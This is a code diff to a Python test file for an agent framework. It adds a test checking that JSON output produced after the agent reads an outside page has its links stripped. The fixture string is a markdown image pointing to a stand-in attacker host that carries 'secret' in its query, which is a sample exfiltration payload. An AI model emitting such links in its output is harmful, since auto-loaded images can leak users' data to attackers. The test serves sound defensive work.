@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from dataclasses import replace
 from typing import Any
 
@@ -11,7 +12,7 @@ from plainloop.agent.core.spec import Pack, WorkerSpec
 from plainloop.agent.core.tools import Tool, ToolContext, tool
 from plainloop.agent.errors import RunWaiting, ToolError
 from plainloop.agent.provenance.rule import Judged
-from plainloop.agent.types import FunctionCall
+from plainloop.agent.types import FunctionCall, JsonSchema
 from plainloop.agent.workers.approvals import find_approval_reason, is_unknown, is_well_formed
 from tests.machine.notes_pack import add_note, list_notes, make_pack
 from tests.machine.running import TENANT
@@ -249,3 +250,18 @@ def test_a_person_is_asked_for_the_first_reason_that_there_is(
     later = [*turn, {"role": "user", "parts": [{"type": "text", "text": "again"}]}]
     if reason == "the outcome of an earlier call is unknown":
         assert find_approval_reason(call, known, judged, later) is None, "of this turn"
+
+
+async def test_json_after_text_from_outside_stays_json_without_its_links(machine: Any):
+    shape = JsonSchema("v", {"type": "object", "properties": {"a": {"type": "string"}}})
+    pack = make_outside_pack()
+    worker = replace(pack.workers[0], output=shape)
+    said = '{"a": "![x](https://evil.example/x?d=secret)"}'
+    run = await machine(
+        *(tools(("a", "read_page", {})), text(said)), pack=replace(pack, workers=(worker,))
+    )
+    told = await run.ask()
+    assert told.error is None
+    answer = json.loads(told.answer)
+    assert "(https://evil.example" not in answer["a"] and answer["a"] != ""
+    assert told.text == told.answer
